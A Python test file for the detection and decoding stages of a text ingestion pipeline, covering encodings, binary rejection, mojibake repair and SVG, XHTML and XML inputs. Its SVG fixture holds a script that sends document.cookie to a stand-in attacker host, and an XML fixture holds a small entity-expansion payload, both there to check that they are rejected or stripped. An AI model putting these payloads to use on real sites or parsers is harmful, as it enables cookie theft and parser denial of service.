"""Detect and decode: what the bytes are, and which text they hold, before any parsing."""

from __future__ import annotations

import random

import pytest

from ingest_worker.pipeline import build_pipeline
from ingest_worker.pipeline.base import Article, Reject, StageContext
from ingest_worker.pipeline.decode import Decode
from ingest_worker.pipeline.detect import DetectFormat
from ingest_worker.pipeline.normalise import Normalise, content_hash, normalise_text
from ingest_worker.pipeline.profiles import MemorySourceProfiles

CTX = StageContext(dedup_enabled=False)


def _decoded(raw: bytes, **kwargs: str) -> Article:
    doc = DetectFormat()(Article(raw=raw, **kwargs), CTX)  # type: ignore[arg-type]
    return Decode()(doc, CTX)


@pytest.mark.parametrize(
    ("raw", "reason"),
    [
        (b"", "empty"),
        (b"   \n\t\n", "empty"),
        (b"%PDF-1.7\n" + bytes(range(256)), "PDF"),
        (b"\x89PNG\r\n\x1a\n" + bytes(200), "PNG"),
        (b"PK\x03\x04" + bytes(100), "ZIP"),
        (bytes(range(32)) * 50, "binary"),
    ],
)
def test_empty_and_binary_inputs_are_rejected_with_a_reason(raw: bytes, reason: str) -> None:
    with pytest.raises(Reject, match=reason):
        _decoded(raw)


def test_random_high_bytes_are_rejected_as_undecodable() -> None:
    rng = random.Random(3)
    raw = bytes(rng.randrange(0x80, 0x100) for _ in range(3000))
    with pytest.raises(Reject, match="undecodable"):
        _decoded(raw)


_POLISH = "Jak pomóc osobie niewidomej, z którą jesteśmy w restauracji? Co zrobić, jeśli tłumacz pomaga? "


def test_text_whose_accents_were_replaced_upstream_is_kept_with_a_warning() -> None:
    # valid UTF-8 holding U+FFFD where a wrong charset upstream lost ó, ą, ś, ł (~6% of letters)
    damaged = "".join("\ufffd" if char in "óąśł" else char for char in _POLISH) * 20
    doc = _decoded(damaged.encode("utf-8"))
    assert doc.text == damaged
    assert any("U+FFFD" in warning for warning in doc.warnings)


def test_text_mostly_replacement_characters_is_rejected_as_undecodable() -> None:
    # a Chinese page read as cp1252 and replaced: more U+FFFD than letters
    line = "\ufffd" * 5 + " 2012-06-04 " + "\ufffd" * 4 + " Ѳ\ufffd\n"
    with pytest.raises(Reject, match=r"undecodable bytes: \d+ replacement characters"):
        _decoded((line * 60).encode("utf-8"))


def test_html_is_recognised_by_name_by_declared_type_and_by_content() -> None:
    page = b"<!doctype html><html><head><title>x</title></head><body><p>Hello there</p></body></html>"
    assert _decoded(page).content_type == "text/html"
    assert _decoded(b"Plain words, <b> once.", filename="a.html").content_type == "text/html"
    # Declared plain text stays plain, unless it is a whole HTML document: its markup and
    # scripts must never reach a record as text (a JSON Lines "text" holding a page).
    assert _decoded(page, declared_content_type="text/plain").content_type == "text/html"
    snippet = b"Plain words about <html> and <b>tags</b>, quoted in an article."
    assert _decoded(snippet, declared_content_type="text/plain").content_type == "text/plain"
    assert _decoded(b"Just a plain article about <things>.").content_type == "text/plain"


@pytest.mark.parametrize(
    ("text", "encoding"),
    [
        ("Café crème brûlée, voilà la réponse à tout. " * 20, "cp1252"),
        ("Rząd przyjął projekt ustawy o podatku, który ma wejść w życie w przyszłym roku. " * 10, "cp1250"),
        ("Правительство одобрило законопроект о налоге, который вступит в силу. " * 10, "cp1251"),
    ],
)
def test_legacy_encodings_are_detected(text: str, encoding: str) -> None:
    doc = _decoded(text.encode(encoding))
    assert doc.text == text
    assert doc.encoding == encoding


def test_utf8_with_a_few_broken_bytes_stays_utf8() -> None:
    good = "Grüße aus München — zażółć gęślą jaźń. ".encode() * 40
    doc = _decoded(good[:700] + b"\xff" + good[700:])
    assert doc.encoding == "utf-8"
    assert "München" in (doc.text or "")


def test_byte_order_marks_decide_the_encoding() -> None:
    text = "Nachrichten aus aller Welt, heute mit Wetter."
    assert _decoded(b"\xef\xbb\xbf" + text.encode()).text == text
    assert _decoded(b"\xff\xfe" + text.encode("utf-16-le")).text == text


def test_text_longer_than_the_limit_is_rejected() -> None:
    ctx = StageContext(dedup_enabled=False, max_text_chars=1000)
    doc = DetectFormat()(Article(raw=b"word " * 500), ctx)
    with pytest.raises(Reject, match="too long"):
        Decode()(doc, ctx)


def test_normalising_repairs_mojibake_and_keeps_typographic_quotes() -> None:
    assert normalise_text("The cafÃ©\u00a0 said  “yes”\u200b") == "The café said “yes”"


def test_the_body_is_paragraphs_separated_by_one_blank_line_with_a_word_count() -> None:
    doc = Article(raw=b"", paragraphs=["  First   paragraph. ", "", "Second one here."])
    doc = Normalise()(doc, CTX)
    assert doc.body == "First paragraph.\n\nSecond one here."
    assert doc.word_count == 5
    assert doc.content_sha256 == content_hash("first PARAGRAPH second one here")


def test_a_document_with_no_body_left_is_rejected() -> None:
    with pytest.raises(Reject, match="no article text"):
        Normalise()(Article(raw=b"x", paragraphs=["", "  "]), CTX)


def test_a_repeated_byte_pattern_is_not_readable_text() -> None:
    with pytest.raises(Reject, match="readable"):
        _decoded(bytes([0xBC, 0xBC]) * 2000)


ARTICLE = """Harbour authorities in Valletta said on Tuesday that the new container terminal would \
open in March, two months later than planned, after storms damaged the northern breakwater.

The 180-million-euro terminal is meant to double the port's capacity and draw transshipment traffic \
away from larger hubs in the western Mediterranean, the authority's chief executive told reporters.

Shipping lines that had booked berths for January were offered slots at the old terminal at no \
extra charge, according to a statement published on the authority's website."""

RUSSIAN_ARTICLE = """Правительство одобрило законопроект о налоге на сверхприбыль, который вступит в силу \
в начале следующего года, сообщил министр финансов во вторник.

По его словам, новые поступления в бюджет составят около трёхсот миллиардов рублей в год."""


def _run(raw: bytes, **kwargs: str) -> Article:
    ctx = StageContext(source_profiles=MemorySourceProfiles(), dedup_enabled=False)
    return build_pipeline().run(Article(raw=raw, **kwargs), ctx)  # type: ignore[arg-type]


@pytest.mark.parametrize("encoding", ["utf-16-le", "utf-16-be"])
@pytest.mark.parametrize("text", [ARTICLE, RUSSIAN_ARTICLE], ids=["english", "russian"])
def test_utf16_without_a_byte_order_mark_is_decoded(text: str, encoding: str) -> None:
    doc = _decoded(text.encode(encoding))
    assert doc.encoding == encoding
    assert doc.text == text


@pytest.mark.parametrize("encoding", ["utf-32-le", "utf-32-be"])
def test_utf32_with_a_byte_order_mark_is_decoded(encoding: str) -> None:
    bom = b"\xff\xfe\x00\x00" if encoding.endswith("le") else b"\x00\x00\xfe\xff"
    doc = _decoded(bom + RUSSIAN_ARTICLE.encode(encoding))
    assert doc.encoding == encoding
    assert doc.text == RUSSIAN_ARTICLE


def test_utf32_without_a_byte_order_mark_is_decoded() -> None:
    doc = _decoded(ARTICLE.encode("utf-32-be"))
    assert doc.encoding == "utf-32-be"
    assert doc.text == ARTICLE


@pytest.mark.parametrize("encoding", ["utf-8", "cp1252"])
def test_text_with_scattered_nul_bytes_is_decoded_without_them(encoding: str) -> None:
    text = ARTICLE.replace("terminal", "términal")
    noisy = bytearray(text.encode(encoding))
    for spot in sorted(random.Random(7).sample(range(len(noisy)), 40), reverse=True):
        noisy.insert(spot, 0)
    doc = _decoded(bytes(noisy))
    assert doc.text == text


def test_a_whole_article_in_utf16_becomes_a_record_text() -> None:
    doc = _run(ARTICLE.encode("utf-16-le"), filename="story.txt")
    assert "Valletta" in doc.body and "\x00" not in doc.body


def _noise(seed: int, size: int) -> bytes:
    rng = random.Random(seed)
    return bytes(rng.randrange(256) for _ in range(size))


@pytest.mark.parametrize(
    ("raw", "reason"),
    [
        (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + _noise(1, 3000), "PNG"),
        (_noise(2, 4000), "not an article|undecodable|readable"),
        (bytes(random.Random(3).choice([0, 1, 2, 3, 7, 255]) for _ in range(4000)), "binary"),
        (b"\x00\x00\x00\x18ftypmp42" + _noise(4, 3000), "binary"),
        (b"".join(i.to_bytes(2, "little") for i in range(3000)), "binary|undecodable|readable"),
    ],
    ids=["png", "random-bytes", "controls", "mp4", "uint16-counter"],
)
def test_binary_data_is_still_rejected_next_to_the_wide_encodings(raw: bytes, reason: str) -> None:
    with pytest.raises(Reject, match=reason):
        _decoded(raw)


SVG = b"""<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">
<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100" onload="alert(1)">
  <script>fetch('https://evil.example/?c=' + document.cookie)</script>
  <title>Chart of port traffic</title>
  <text x="10" y="20">Harbour traffic rose by ten per cent in the last year, officials said.</text>
  <p>Some paragraph text that looks like an article. <div>And a div.</div></p>
</svg>
"""


@pytest.mark.parametrize(
    "kwargs",
    [{}, {"filename": "chart.svg"}, {"filename": "chart.txt"}, {"declared_content_type": "text/plain"}],
    ids=["no-name", "svg-name", "txt-name", "declared-text"],
)
def test_an_svg_image_is_rejected_as_not_an_article(kwargs: dict[str, str]) -> None:
    with pytest.raises(Reject, match="not an article: SVG image"):
        _decoded(SVG, **kwargs)


def test_an_svg_without_an_xml_declaration_or_in_utf16_is_rejected_too() -> None:
    bare = SVG.split(b"\n", 2)[2]
    with pytest.raises(Reject, match="SVG image"):
        _decoded(bare)
    with pytest.raises(Reject, match="SVG image"):
        _decoded(SVG.decode().encode("utf-16"))


def test_an_svg_declared_as_svg_is_rejected_whatever_it_holds() -> None:
    with pytest.raises(Reject, match="SVG image"):
        _decoded(ARTICLE.encode(), declared_content_type="image/svg+xml")


def test_an_html_page_with_inline_svg_is_still_an_html_page() -> None:
    page = f"<!doctype html><html><body><svg><circle r='1'/></svg><p>{ARTICLE}</p></body></html>"
    assert _decoded(page.encode()).content_type == "text/html"


XHTML = f"""<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">
<html xmlns="http://www.w3.org/1999/xhtml"><head><title>Terminal delayed</title>
<script type="text/javascript">document.write('tracking pixel');</script></head>
<body><article>{"".join(f"<p>{p}</p>" for p in ARTICLE.split(chr(10) + chr(10)))}</article></body></html>
"""


def test_xhtml_takes_the_html_path_and_its_script_never_reaches_the_text() -> None:
    doc = _decoded(XHTML.encode(), filename="story.xml")
    assert doc.content_type == "text/html"
    doc = _run(XHTML.encode(), filename="story.xml")
    assert "Valletta" in doc.body
    assert "tracking" not in doc.body and "<" not in doc.body


NITF = f"""<?xml version="1.0" encoding="ISO-8859-1"?>
<!DOCTYPE nitf [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>
<nitf><head><title>Terminal delayed</title>
<script>alert('x')</script></head>
<body><body.head><hedline><hl1>Valletta terminal opening delayed</hl1></hedline></body.head>
<body.content>{"".join(f"<p>{p}</p>" for p in ARTICLE.split(chr(10) + chr(10)))}
<p>Caf\u00e9 owners near the port <em>welcomed</em> the delay &amp; the calm, &lol2;</p>
</body.content></body></nitf>
"""


def test_other_xml_becomes_text_without_its_tags_or_scripts() -> None:
    doc = _decoded(NITF.encode("latin-1"), filename="story.xml")
    assert doc.content_type == "text/plain"
    assert doc.encoding == "iso-8859-1"
    text = doc.text or ""
    assert "<" not in text and "alert" not in text and "&lol" not in text
    assert "Valletta terminal opening delayed" in text
    assert "Café owners near the port welcomed the delay & the calm," in text
    assert ARTICLE.split("\n\n")[1].replace("\n", " ") in text
    doc = _run(NITF.encode("latin-1"))
    assert "Valletta" in doc.body and "<" not in doc.body


def test_a_news_feed_is_rejected_as_not_an_article() -> None:
    rss = b'<?xml version="1.0"?><rss version="2.0"><channel><item><title>A</title></item></channel></rss>'
    with pytest.raises(Reject, match="not an article: RSS feed"):
        _decoded(rss)


def test_xml_with_no_text_is_rejected() -> None:
    with pytest.raises(Reject):
        _decoded(b'<?xml version="1.0"?><config><entry key="a" value="b"/><entry key="c"/></config>')
